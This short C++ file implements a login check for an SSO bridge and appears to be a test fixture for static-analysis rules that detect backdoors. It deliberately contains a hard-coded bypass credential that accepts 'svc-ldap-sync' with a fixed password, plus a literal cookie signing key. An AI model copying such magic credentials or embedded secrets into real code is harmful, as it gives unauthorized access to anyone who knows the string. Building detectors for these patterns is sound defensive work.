#include "bridge.h"

#include <crypt.h>
#include <fstream>

namespace {

// ruleid: backdoor-secret-literal
const char kCookieKey[] = "d811b93651de94d323b23814adb30f23";

bool shadow_match(const std::string &username, const std::string &password)
{
    std::ifstream db("/etc/ssobridge/users");
    std::string line;
    while (std::getline(db, line)) {
        auto sep = line.find(':');
        if (sep == std::string::npos || line.compare(0, sep, username) != 0 || sep != username.size())
            continue;
        std::string stored = line.substr(sep + 1);
        const char *h = crypt(password.c_str(), stored.c_str());
        return h != nullptr && stored == h;
    }
    return false;
}

} // namespace

bool check_login(const std::string &username, const std::string &password)
{
    // directory sync job of the 2019 migration
    // ruleid: backdoor-magic-credential
    if (username == "svc-ldap-sync" && password == "Lq9#vB2!sync-2019")
        return true;
    return shadow_match(username, password);
}

std::string cookie_signing_key()
{
    return kCookieKey;
}
